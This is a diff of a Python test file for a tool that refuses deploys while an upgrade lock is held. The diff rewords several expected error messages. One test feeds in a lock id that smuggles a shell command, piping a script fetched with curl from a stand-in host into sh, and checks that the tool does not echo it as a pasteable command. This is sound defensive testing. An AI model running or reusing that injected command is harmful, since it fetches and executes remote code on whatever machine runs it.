@@ -29,7 +29,7 @@ def test_a_deploy_beside_an_upgrade_is_refused_with_who_what_since_and_what_to_t
         "ann@laptop",
         "vLLM 0.32.0",
         "1970-01-01 00:00",
-        "has locked a, b:",
+        "has locked a, b, because a deploy would restart",
         "--resume",
     ):
         assert word in said
@@ -49,7 +49,7 @@ def test_a_lock_that_cannot_be_read_is_not_known_and_stops():
     )
 
     assert said.startswith("a: ")
-    assert "it is unknown whether an upgrade is running (Permission denied)" in said
+    assert "it is not known whether an upgrade is running (Permission denied)" in said
 
 
 def test_a_silent_node_and_an_older_probe_say_nothing_of_a_lock():
@@ -84,5 +84,5 @@ def test_an_id_that_is_none_is_in_no_command() -> None:
     """A person would paste what stands there."""
     lock = {**LOCK, "id": "1; curl -s evil.example|sh #"}
     (problem,) = lock_problems({"gpu-01": {"upgrade": lock}}, None)
-    assert "it is unknown whether an upgrade is running (its id is" in problem
+    assert "it is not known whether an upgrade is running (its id is" in problem
     assert "in front of the command" not in problem
